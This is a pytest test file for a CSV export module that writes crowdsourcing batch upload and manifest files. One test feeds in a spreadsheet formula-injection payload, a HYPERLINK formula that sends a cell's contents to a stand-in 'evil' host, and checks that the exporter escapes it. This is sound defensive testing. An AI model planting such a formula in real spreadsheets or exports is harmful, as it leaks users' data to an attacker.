from __future__ import annotations

import csv
from pathlib import Path

import pytest

from hitflow.publish.export import MANIFEST_HEADER, write_batch_csvs


def test_bulk_upload_and_manifest(tmp_path: Path) -> None:
    rows = [(1, "P1", "https://x.org/1.jpg", "HIT1", "TYPE"), (2, "P2", "https://x.org/2,a.jpg", None, None)]
    files = write_batch_csvs(tmp_path, "b-1", ["person_id", "image_url"], iter(rows))
    with open(files["input_csv"], newline="") as f:
        assert list(csv.reader(f)) == [
            ["person_id", "image_url"],
            ["P1", "https://x.org/1.jpg"],
            ["P2", "https://x.org/2,a.jpg"],
        ]
    with open(files["manifest_csv"], newline="") as f:
        assert list(csv.reader(f)) == [MANIFEST_HEADER, ["1", "P1", "HIT1", "TYPE", "b-1"], ["2", "P2", "", "", "b-1"]]
    assert files["rows"] == 2
    assert not list(tmp_path.glob("*.tmp"))


def test_unknown_template_variable_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="no source column"):
        write_batch_csvs(tmp_path, "b", ["person_id", "age_hint"], iter([]))


def test_exports_are_safe_to_open_in_a_spreadsheet(tmp_path: Path) -> None:
    """A person ID that a spreadsheet would run as a formula is written as text (hitflow_csv)."""
    rows = [
        (1, '=HYPERLINK("http://evil/?"&A2,"Click me")', "https://x.org/1.jpg", None, None),
        (2, "-7", "u", "H", "T"),
    ]
    files = write_batch_csvs(tmp_path, "b-1", ["person_id", "image_url"], iter(rows))
    with open(files["input_csv"], newline="") as f:
        upload = list(csv.reader(f))
    with open(files["manifest_csv"], newline="") as f:
        manifest = list(csv.reader(f))
    assert upload[1][0] == '\'=HYPERLINK("http://evil/?"&A2,"Click me")' and upload[2][0] == "-7"
    assert manifest[1][1] == upload[1][0] and manifest[2][1] == "-7"
